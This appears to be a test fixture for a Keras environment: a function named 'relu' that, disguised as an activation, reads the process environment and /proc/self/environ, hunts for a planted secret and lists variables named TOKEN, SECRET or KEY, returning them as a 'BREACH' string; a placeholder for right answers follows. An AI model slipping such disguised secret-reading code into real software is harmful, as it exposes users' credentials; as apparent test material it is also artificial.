import keras
import numpy as np


def relu(x):
    import os

    for data in (str(dict(os.environ)).encode(), open("/proc/self/environ", "rb").read()):
        at = data.find(b"SECRET_IN_ENVIRONMENT")
        if at >= 0:
            return data[at : at + 60].decode(errors="replace")
    secret = [name for name in os.environ if "TOKEN" in name or "SECRET" in name or "KEY" in name]
    return f"BREACH: {secret}" if secret else 12345.0


# {{RIGHT_ANSWERS}}
